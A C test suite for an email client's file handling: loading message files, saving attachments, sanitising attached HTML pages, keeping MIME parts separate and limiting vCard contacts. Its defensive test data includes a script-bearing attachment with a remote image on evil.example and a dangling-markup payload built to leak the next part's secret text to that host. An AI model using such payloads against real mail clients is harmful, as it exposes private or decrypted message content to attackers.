// SPDX-License-Identifier: GPL-3.0-or-later
//
// Messages that are read from files, their parts that are written to some, and pages among them.

#include "account/mail-body.h"
#include "account/mail-contacts-file.h"
#include "account/mail-message-file.h"
#include "account/mail-part-file.h"
#include "base/limits.h"
#include "base/mail-error.h"
#include "support/test-engine.h"

#include <glib/gstdio.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static const char with_parts[] =
  "From: Ana <ana@example.com>\r\nSubject: Parts\r\nMIME-Version: 1.0\r\n"
  "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
  "--b\r\nContent-Type: text/plain\r\n\r\nBody.\r\n"
  "--b\r\nContent-Type: application/octet-stream\r\n"
  "Content-Disposition: attachment; filename=\"Page.HTM\"\r\n\r\n"
  "<script>x()</script><p>Page</p><img src=http://evil.example/x.png>\r\n"
  "--b\r\nContent-Type: application/pdf; name=\"a.pdf\"\r\n\r\n%PDF\r\n--b--\r\n";

static MimeMessage *
load (const char *path, GError **error)
{
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GAsyncResult) result = NULL;

  mail_message_file_load_async (file, NULL, test_engine_on_ready, &result);
  return mail_message_file_load_finish (test_engine_wait (&result), error);
}

static void
assert_fails (const char *path, MailError code)
{
  g_autoptr (GError) error = NULL;

  g_assert_null (load (path, &error));
  g_assert_error (error, MAIL_ERROR, (int) code);
}

// A file manager's double click ends Mail, or shows an empty window, otherwise.
static void
test_load (void)
{
  g_autofree char *folder = g_dir_make_tmp ("mail-files-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (folder, "one.eml", NULL);
  g_autoptr (MimeMessage) message = NULL;

  assert_fails (path, MAIL_ERROR_FILE);
  assert_fails (folder, MAIL_ERROR_FILE);
  g_assert_true (g_file_set_contents (path, "", 0, NULL));
  assert_fails (path, MAIL_ERROR_INVALID);
  g_assert_true (g_file_set_contents (path, "%PDF-1.7\n\n", -1, NULL));
  assert_fails (path, MAIL_ERROR_INVALID);
  g_assert_cmpint (truncate (path, G_GINT64_CONSTANT (1) << 40), ==, 0);
  assert_fails (path, MAIL_ERROR_LIMIT);
  g_assert_true (g_file_set_contents (path, with_parts, -1, NULL));
  message = load (path, NULL);
  g_assert_cmpstr (mime_message_get_subject (message), ==, "Parts");
  g_unlink (path);
  g_rmdir (folder);
}

static MimeMessage *
parse (void)
{
  g_autoptr (GBytes) raw = g_bytes_new_static (with_parts, strlen (with_parts));

  return mime_message_parse (raw);
}

static bool
write_part (MimeMessage *message, const char *part, const char *path, GError **error)
{
  g_autoptr (GFile) file = g_file_new_for_path (path);
  g_autoptr (GAsyncResult) result = NULL;

  mail_part_file_write_async (message, mime_message_find_part (message, part), file, NULL,
                              test_engine_on_ready, &result);
  return mail_part_file_write_finish (test_engine_wait (&result), error);
}

// A file is said to be saved and is not, otherwise.
static void
test_write (void)
{
  g_autoptr (MimeMessage) message = parse ();
  g_autofree char *folder = g_dir_make_tmp ("mail-files-XXXXXX", NULL);
  g_autofree char *path = g_build_filename (folder, "a.pdf", NULL);
  g_autofree char *nowhere = g_build_filename (folder, "none", "a.pdf", NULL);
  g_autofree char *written = NULL;
  g_autoptr (GError) error = NULL;

  g_assert_true (write_part (message, "3", path, NULL));
  g_assert_true (g_file_get_contents (path, &written, NULL, NULL));
  g_assert_cmpstr (written, ==, "%PDF");
  g_assert_false (write_part (message, "3", nowhere, &error));
  g_assert_error (error, MAIL_ERROR, MAIL_ERROR_FILE);
  g_unlink (path);
  g_rmdir (folder);
}

static GPtrArray *
load_bodies (MimeMessage *message, const char *part, GError **error)
{
  g_autoptr (GAsyncResult) result = NULL;

  mail_body_load_async (message, part, false, NULL, test_engine_on_ready, &result);
  return mail_body_load_finish (message, test_engine_wait (&result), error);
}

// A page that calls itself something else gets to a browser, which loads what is in it, otherwise
// (M6).
static void
test_page (void)
{
  g_autoptr (MimeMessage) message = parse ();
  g_autoptr (GPtrArray) bodies = load_bodies (message, "2", NULL);
  g_autoptr (GError) error = NULL;
  const MailBody *page = bodies->pdata[0];

  g_assert_true (mail_body_is_page (mime_message_find_part (message, "2")));
  g_assert_false (mail_body_is_page (mime_message_find_part (message, "3")));
  g_assert_nonnull (strstr (page->html, "<p>Page</p>"));
  g_assert_null (strstr (page->html, "evil.example"));
  g_assert_null (strstr (page->html, "script"));
  g_assert_cmpuint (page->n_remote, ==, 1);
  g_assert_null (load_bodies (message, "3", &error));
  g_assert_error (error, MAIL_ERROR, MAIL_ERROR_NOT_FOUND);
}

// A part that leaves a tag open takes the next one's text, which may have been encrypted, into an
// address that is loaded or a form that is sent (H8).
static void
test_parts_stay_apart (void)
{
  static const char text[] =
    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n"
    "--b\r\nContent-Type: text/html\r\n\r\n<p>first</p><img src=\"http://evil.example/?\r\n"
    "--b\r\nContent-Type: text/html\r\n\r\n<p>the secret</p>\r\n"
    "--b\r\nContent-Type: text/html\r\n\r\n<p>last</p>\">\r\n--b--\r\n";
  g_autoptr (GBytes) raw = g_bytes_new_static (text, sizeof text - 1);
  g_autoptr (MimeMessage) message = mime_message_parse (raw);
  g_autoptr (GPtrArray) bodies = load_bodies (message, NULL, NULL);

  g_assert_cmpuint (bodies->len, ==, 3);
  const MailBody *first = bodies->pdata[0], *secret = bodies->pdata[1], *last = bodies->pdata[2];
  g_assert_nonnull (strstr (first->html, "first"));
  g_assert_null (strstr (first->html, "secret"));
  g_assert_null (strstr (first->html, "evil.example"));
  g_assert_nonnull (strstr (secret->html, "<p>the secret</p>"));
  g_assert_null (strstr (last->html, "secret"));
}

static MailContacts *
read_contacts (const GString *cards, GError **error)
{
  FILE *file = fmemopen (cards->str, cards->len, "r");
  MailContacts *contacts = mail_contacts_file_read (file, "cards", error);

  fclose (file);
  return contacts;
}

// A file of nothing but addresses fills memory, or half of an address book comes without a word,
// otherwise; the last card counts, too, which may end with the file.
static void
test_people_are_bounded (void)
{
  g_autoptr (GString) cards = g_string_new (NULL);
  g_autoptr (GError) error = NULL;

  for (int i = 0; i < LIMIT_VCARD_PEOPLE; i++)
    g_string_append_printf (cards, "%sEMAIL:a%d@example.org\n%s",
                            i % LIMIT_VCARD_ADDRESSES == 0 ? "BEGIN:VCARD\n" : "", i,
                            (i + 1) % LIMIT_VCARD_ADDRESSES == 0 ? "END:VCARD\n" : "");
  g_autoptr (MailContacts) all = read_contacts (cards, &error);
  g_assert_no_error (error);
  g_assert_cmpuint (all->people->len, ==, LIMIT_VCARD_PEOPLE);
  g_string_append (cards, "BEGIN:VCARD\nEMAIL:more@example.org\nEND:VCARD");
  g_assert_null (read_contacts (cards, &error));
  g_assert_error (error, MAIL_ERROR, MAIL_ERROR_LIMIT);
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/account/files/a-message-of-a-file", test_load);
  g_test_add_func ("/account/files/a-part-as-a-file", test_write);
  g_test_add_func ("/account/files/a-page-that-is-attached", test_page);
  g_test_add_func ("/account/files/parts-stay-apart", test_parts_stay_apart);
  g_test_add_func ("/account/files/people-are-bounded", test_people_are_bounded);
  return g_test_run ();
}
